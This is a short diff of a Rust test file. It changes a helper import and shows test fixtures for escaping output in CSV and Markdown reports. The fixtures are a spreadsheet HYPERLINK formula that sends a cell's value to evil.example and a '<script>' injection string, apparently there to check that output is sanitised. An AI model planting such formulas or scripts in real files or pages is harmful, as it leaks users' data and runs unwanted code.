@@ -7,8 +7,7 @@
 //! lane prints no HTML; a Markdown report turned into HTML by another tool gets
 //! escaped text (`\<script\>`), never a tag.
 
-mod common;
-use common::{csv_rows, json, Village};
+use crate::harness::{csv_rows, json, Village};
 
 const EVIL_ALLEY: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")";
 const EVIL_MD: &str = "| ** <script>alert(1)</script>";
